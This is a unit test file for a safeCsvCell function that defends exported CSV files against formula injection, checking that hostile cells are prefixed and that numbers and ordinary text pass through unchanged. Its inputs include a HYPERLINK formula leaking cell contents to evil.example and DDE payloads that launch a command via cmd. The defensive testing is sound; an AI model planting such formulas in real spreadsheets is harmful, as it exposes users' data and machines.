import { safeCsvCell } from './csv-cell';

describe('safeCsvCell (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', `'=HYPERLINK("http://evil.example/?"&A1,"x")`],
    ['+cmd|" /C calc"!A0', `'+cmd|" /C calc"!A0`],
    ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
    ['@SUM(1+1)*cmd|" /C calc"!A0', `'@SUM(1+1)*cmd|" /C calc"!A0`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
  ])('neutralises %j', (input, expected) => {
    expect(safeCsvCell(input)).toBe(expected);
  });

  it.each(['-3', '+1.5', '-1,234', '-12.5%', '1e-3', '-'])(
    'keeps the number-like or one-character %j as it is',
    (input) => {
      expect(safeCsvCell(input)).toBe(input);
    },
  );

  it('keeps numbers numbers and ordinary text as it is', () => {
    expect(safeCsvCell(-3)).toBe(-3);
    expect(safeCsvCell(1.5)).toBe(1.5);
    expect(safeCsvCell('年間2,221人')).toBe('年間2,221人');
    expect(safeCsvCell('2023-05-24 09:00')).toBe('2023-05-24 09:00');
    expect(safeCsvCell(undefined)).toBe('');
  });
});
